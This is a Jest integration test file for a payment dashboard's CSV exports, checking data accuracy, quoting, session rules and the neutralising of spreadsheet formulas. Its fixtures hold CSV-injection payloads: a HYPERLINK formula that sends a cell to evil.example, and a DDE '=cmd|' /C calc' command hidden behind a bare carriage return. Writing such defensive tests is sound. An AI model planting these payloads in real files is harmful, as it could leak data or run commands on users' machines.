import { parse } from 'csv-parse/sync';
import request from 'supertest';
import { Client } from 'pg';
import { AdminRole } from '../../../src/modules/admins/admin-role';
import { adminClient } from '../../support/admin-client';
import { checkoutClient } from '../../support/checkout-client';
import { dashboard, signUpSeller, STRONG_PASSWORD } from '../../support/dashboard-client';
import { sellerClient, VALID_PAYMENT } from '../../support/seller-client';
import { useTestService } from '../../support/test-service';
import { testRun } from '../../support/test-env';

/**
 * The dashboard's CSV exports (docs/dashboard.md, "Exports"): payments with the Payments screen's filters,
 * balance transactions and withdrawals, each parsed with csv-parse and compared with the database; RFC 4180
 * quoting; cells that a spreadsheet would run as a formula prefixed with '; the session rules of a download.
 */
jest.setTimeout(120_000);
const service = useTestService({ RATE_LIMIT_PER_MINUTE: '100000', SIMULATED_REFUND_DELAY_MS: '20', REFUND_SWEEP_INTERVAL_MS: '100' }, 'exports');
let seller: Awaited<ReturnType<typeof signUpSeller>>;
const sql = async <T = Record<string, unknown>>(text: string, params: unknown[] = []): Promise<T[]> => service.em().getConnection().execute(text, params);

beforeAll(async () => {
  seller = await signUpSeller(service.url);
});

async function pay(apiKey: string, amount: number, extra: Record<string, unknown> = {}, card = '4242424242424242') {
  const created = await sellerClient(service.url, apiKey).create({ ...VALID_PAYMENT, amount, ...extra });
  expect(created.status).toBe(200);
  const id = created.body.data.id as string;
  await checkoutClient(service.url).pay(id, card);
  return id;
}

/** GETs an export with the seller's session cookie (a download: no CSRF header), its text and parsed rows. */
async function download(path: string, cookie: string | null = seller.session.cookie, headers: Record<string, string> = {}) {
  let req = request(service.url).get(path).set(headers);
  if (cookie) req = req.set('Cookie', cookie);
  const res = await req.buffer(true).parse((r, done) => {
    let text = '';
    r.on('data', (chunk: Buffer) => (text += chunk.toString('utf8')));
    r.on('end', () => done(null, text));
  });
  const text = res.body as string;
  const rows: Record<string, string>[] = res.status === 200 ? parse(text, { columns: true, relax_quotes: false }) : [];
  return { res, text, rows };
}

const cents = (text: string) => {
  const match = /^(-?)(\d+)\.(\d\d)$/.exec(text);
  if (!match) throw new Error(`not dollars: ${text}`);
  return (match[1] ? -1 : 1) * (Number(match[2]) * 100 + Number(match[3]));
};

const HOSTILE_NAME = '=HYPERLINK("https://evil.example/?x="&A1,"Click")';
/** A name whose bare CR starts a new record, first cell a formula, for a reader that takes CR as a line break. */
const CR_NAME = "Zed\r=cmd|' /C calc'!A0";
let ids: { hostile: string; failed: string; refunded: string; newShop: string; crName: string };

beforeAll(async () => {
  const hostile = await pay(seller.apiKey, 1234, {
    customer_email: 'ann@example.com',
    customer_name: HOSTILE_NAME,
    metadata: { note: '+1+2', formula: '@SUM(A1:A9)', tabbed: '\tstarts with a tab', minus: '-3+4', quote: 'say "hi", then\nleave', plain: '-42.50' },
  });
  const failed = await pay(seller.apiKey, 2000, { customer_email: 'bob@example.org', customer_name: 'Bob, "the builder"' }, '4000000000000002');
  const refunded = await pay(seller.apiKey, 10_000, { customer_email: 'carol@example.net' });
  const crName = await pay(seller.apiKey, 700, { customer_email: 'zed@example.com', customer_name: CR_NAME });
  const support = await adminClient(service, AdminRole.SUPPORT);
  const finance = await adminClient(service, AdminRole.FINANCE);
  const { requestRefund } = await support.ok('mutation ($p: ID!) { requestRefund(paymentId: $p, reason: "returned", amount: 4000) { id } }', { p: refunded });
  await finance.ok('mutation ($id: ID!) { approveRefund(id: $id) { id } }', { id: requestRefund.id });
  for (let i = 0; i < 50 && (await sql<{ status: string }>('select "status" from "refunds" where "id" = ?', [requestRefund.id]))[0].status !== 'refunded'; i++) await new Promise((r) => setTimeout(r, 100));
  // The key replaced: the history goes on in a new shop.
  await dashboard(service.url, 'DeleteMyShop', { shopName: 'Dashboard Shop', currentPassword: seller.password }, seller.session);
  const created = await dashboard(service.url, 'CreateMyShop', { shopName: 'Second Shop', currentPassword: seller.password }, seller.session);
  const newShop = await pay(created.body.data.createMyShop.apiKey, 5000, { customer_email: 'dan@example.com' });
  ids = { hostile, failed, refunded, newShop, crName };
  // A withdrawal: verified address, payout account, then the request.
  await sql('update "sellers" set "email_verified_at" = now() where "id" = ?', [seller.sellerId]);
  await dashboard(service.url, 'SetPayoutAccount', { holder: '=Harbour Books', accountNumber: 'DE89370400440532013000', currentPassword: STRONG_PASSWORD }, seller.session);
  const withdrawal = await dashboard(service.url, 'RequestWithdrawal', { amount: 1500 }, seller.session);
  expect(withdrawal.body.errors).toBeUndefined();
});

test('payments.csv: every payment of both shops, newest first, equal to the database; fee and net only when charged; what went back', async () => {
  const { res, text, rows } = await download('/dashboard/exports/payments.csv');
  expect(res.status).toBe(200);
  expect(res.headers['content-type']).toBe('text/csv; charset=utf-8; header=present');
  expect(res.headers['content-disposition']).toMatch(/^attachment; filename="payments-\d{4}-\d{2}-\d{2}\.csv"$/);
  expect(res.headers['cache-control']).toBe('no-store');
  // RFC 4180: CRLF after every record, the header first.
  expect(text.startsWith('id,created_at,completed_at,status,currency,amount,fee,refunded,net,customer_email,customer_name,metadata,shop_id,shop_name,past_shop\r\n')).toBe(true);
  expect(text.endsWith('\r\n')).toBe(true);
  const db = await sql<{ id: string; amount: string; status: string; customer_email: string; shop_id: string; created_at: Date }>(
    `select p.* from "payments" p join "shops" s on s."id" = p."shop_id" where s."seller_id" = ? order by p."created_at" desc, p."id" desc`,
    [seller.sellerId],
  );
  expect(rows.map((r) => r.id)).toEqual(db.map((p) => p.id));
  for (const [i, p] of db.entries()) {
    expect([rows[i].id, cents(rows[i].amount), rows[i].status, rows[i].customer_email, rows[i].shop_id, new Date(rows[i].created_at).getTime()]).toEqual([
      p.id, Number(p.amount), p.status, p.customer_email, p.shop_id, new Date(p.created_at).getTime(),
    ]);
  }
  const byId = new Map(rows.map((r) => [r.id, r]));
  expect(byId.get(ids.refunded)).toMatchObject({ amount: '100.00', fee: '15.00', refunded: '40.00', net: '45.00', past_shop: 'yes', shop_name: 'Dashboard Shop' });
  expect(byId.get(ids.failed)).toMatchObject({ status: 'failed', fee: '', net: '', refunded: '0.00', customer_name: 'Bob, "the builder"' });
  expect(byId.get(ids.newShop)).toMatchObject({ past_shop: 'no', shop_name: 'Second Shop' });
});

test('cells a spreadsheet would run as a formula are prefixed with a quote; numbers and quoting stay right', async () => {
  const { text, rows } = await download('/dashboard/exports/payments.csv');
  const hostile = rows.find((r) => r.id === ids.hostile)!;
  expect(hostile.customer_name).toBe(`'${HOSTILE_NAME}`);
  // The metadata cell is JSON text starting with "{": not a formula; its values keep their characters.
  expect(JSON.parse(hostile.metadata)).toEqual({ note: '+1+2', formula: '@SUM(A1:A9)', tabbed: '\tstarts with a tab', minus: '-3+4', quote: 'say "hi", then\nleave', plain: '-42.50' });
  // A field holding a quote, comma or line break is quoted, its quotes doubled.
  expect(text).toContain('"Bob, ""the builder"""');
  for (const row of rows) for (const cell of Object.values(row)) expect([cell, /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell)]).toEqual([cell, false]);
});

test('a bare CR in a cell neither ends the record nor lets the line after it start a formula', async () => {
  const { text, rows } = await download('/dashboard/exports/payments.csv');
  expect(rows.find((r) => r.id === ids.crName)!.customer_name).toBe("Zed\r'=cmd|' /C calc'!A0");
  expect(text).toContain('"Zed\r\'=cmd|\' /C calc\'!A0"');
  // A reader that takes any CR or LF as the end of a line: no line begins, past a quote and white space, with a formula.
  for (const line of text.split(/\r\n|\r|\n/)) expect([line, /^"?\s*[=+\-@]/.test(line)]).toEqual([line, false]);
});

test("payments.csv takes the screen's filters (status, text, dates): the same payments as the Payments screen", async () => {
  const screen = async (filter: Record<string, unknown>) => (await dashboard(service.url, 'Payments', { filter }, seller.session)).body.data.searchPayments.items.map((p: { id: string }) => p.id);
  const cases: [Record<string, string>, Record<string, unknown>][] = [
    [{ status: 'COMPLETED' }, { status: 'COMPLETED' }],
    [{ text: 'example.org' }, { text: 'example.org' }],
    [{ text: '@sum(a1:a9)' }, { text: '@sum(a1:a9)' }],
    [{ createdFrom: new Date(Date.now() - 3600_000).toISOString(), createdTo: new Date(Date.now() + 3600_000).toISOString(), status: 'FAILED' }, {}],
  ];
  cases[3][1] = { createdFrom: cases[3][0].createdFrom, createdTo: cases[3][0].createdTo, status: 'FAILED' };
  for (const [query, filter] of cases) {
    const { rows } = await download(`/dashboard/exports/payments.csv?${new URLSearchParams(query)}`);
    const expected = await screen(filter);
    expect(expected.length).toBeGreaterThan(0);
    expect([query, rows.map((r) => r.id)]).toEqual([query, expected]);
  }
  expect((await download('/dashboard/exports/payments.csv?status=lost')).res.status).toBe(400);
  expect((await download('/dashboard/exports/payments.csv?createdFrom=yesterday')).res.status).toBe(400);
});

test('balance-transactions.csv: every balance line and payout, oldest first, each with the balance after it, equal to the ledger', async () => {
  const finance = await adminClient(service, AdminRole.FINANCE);
  const [{ id: withdrawalId }] = await sql<{ id: string }>('select "id" from "withdrawals" where "seller_id" = ?', [seller.sellerId]);
  await finance.ok('mutation ($id: ID!) { approveWithdrawal(id: $id) { id } }', { id: withdrawalId });
  await finance.ok('mutation ($id: ID!) { markWithdrawalPaid(id: $id, reference: "=TRX-1") { id } }', { id: withdrawalId });
  const { res, rows } = await download('/dashboard/exports/balance-transactions.csv');
  expect(res.status).toBe(200);
  const ledger = await sql<{ id: string; kind: string; amount: string; account: string; created_at: Date; payment_id: string | null }>(
    `select e.* from "ledger_entries" e left join "withdrawals" w on w."id" = e."withdrawal_id"
      where (e."seller_id" = ? and e."account" = 'seller_balance') or (e."account" = 'payouts' and w."seller_id" = ?) order by e."id"`,
    [seller.sellerId, seller.sellerId],
  );
  expect(rows.map((r) => r.id)).toEqual(ledger.map((e) => String(e.id)));
  let balance = 0;
  for (const [i, e] of ledger.entries()) {
    const payout = e.account === 'payouts';
    if (!payout) balance += Number(e.amount);
    expect([rows[i].type, cents(rows[i].amount), rows[i].paid_out === '' ? null : cents(rows[i].paid_out), cents(rows[i].balance_after), rows[i].payment_id]).toEqual([
      e.kind, payout ? 0 : Number(e.amount), payout ? Number(e.amount) : null, balance, e.payment_id ?? '',
    ]);
  }
  expect(rows.map((r) => r.type)).toEqual(expect.arrayContaining(['payment', 'fee', 'refund', 'withdrawal_hold', 'payout']));
  const onlyFees = await download('/dashboard/exports/balance-transactions.csv?types=fee');
  expect(onlyFees.rows.map((r) => r.type)).toEqual(ledger.filter((e) => e.kind === 'fee').map(() => 'fee'));
  expect((await download('/dashboard/exports/balance-transactions.csv?types=gift')).res.status).toBe(400);
});

test('withdrawals.csv equals the database; a payout reference that looks like a formula is quoted out', async () => {
  const { rows } = await download('/dashboard/exports/withdrawals.csv');
  const db = await sql<{ id: string; amount: string; status: string }>('select * from "withdrawals" where "seller_id" = ? order by "created_at" desc, "id" desc', [seller.sellerId]);
  expect(rows.map((r) => [r.id, cents(r.amount), r.status])).toEqual(db.map((w) => [w.id, Number(w.amount), w.status]));
  expect(rows[0].payout_reference).toBe("'=TRX-1");
});

test('a long history streams across many keyset pages: every row once, in order', async () => {
  const other = await signUpSeller(service.url);
  const client = new Client({ connectionString: testRun().databaseUrl });
  await client.connect();
  try {
    await client.query(
      // Old unpaid payments, as the expiry sweep leaves them (pending ones would be due to every service's sweep).
      `insert into "payments" ("id", "shop_id", "amount", "currency", "return_url", "metadata", "status", "checkout_stage", "failure_code", "created_at")
       select 'pay_' || substr(md5(g::text || $1), 1, 24), $1, 100 + g, 'usd', 'https://shop.example.com/r', '{}', 'failed', 'finished', 'expired',
              timestamp '2026-01-01' + make_interval(secs => g / 3)
         from generate_series(1, 3500) g`,
      [other.shopId],
    );
  } finally {
    await client.end();
  }
  const { rows } = await download('/dashboard/exports/payments.csv', other.session.cookie);
  expect(rows.length).toBe(3500);
  expect(new Set(rows.map((r) => r.id)).size).toBe(3500);
  const times = rows.map((r) => new Date(r.created_at).getTime());
  expect(times).toEqual([...times].sort((a, b) => b - a));
});

test('a download needs the session: none is 401 (a browser is sent to sign in), another seller sees only their own, a cross-site request is refused', async () => {
  const anonymous = await download('/dashboard/exports/payments.csv', null);
  expect(anonymous.res.status).toBe(401);
  expect(JSON.parse(anonymous.text)).toEqual({ success: false, error: 'Authentication required' });
  const browser = await download('/dashboard/exports/payments.csv', null, { Accept: 'text/html' });
  expect(browser.res.status).toBe(303);
  expect(browser.res.headers.location).toBe('/dashboard/login?next=%2Fdashboard%2Fexports%2Fpayments.csv');
  const stranger = await signUpSeller(service.url);
  const theirs = await download('/dashboard/exports/payments.csv', stranger.session.cookie);
  expect(theirs.rows).toEqual([]);
  expect(theirs.text).toBe('id,created_at,completed_at,status,currency,amount,fee,refunded,net,customer_email,customer_name,metadata,shop_id,shop_name,past_shop\r\n');
  expect((await download('/dashboard/exports/payments.csv', seller.session.cookie, { 'Sec-Fetch-Site': 'cross-site' })).res.status).toBe(403);
  expect((await download('/dashboard/exports/nothing.csv')).res.status).toBe(404);
  // A download changes nothing: GET only.
  expect((await request(service.url).post('/dashboard/exports/payments.csv').set('Cookie', seller.session.cookie)).status).toBe(404);
});
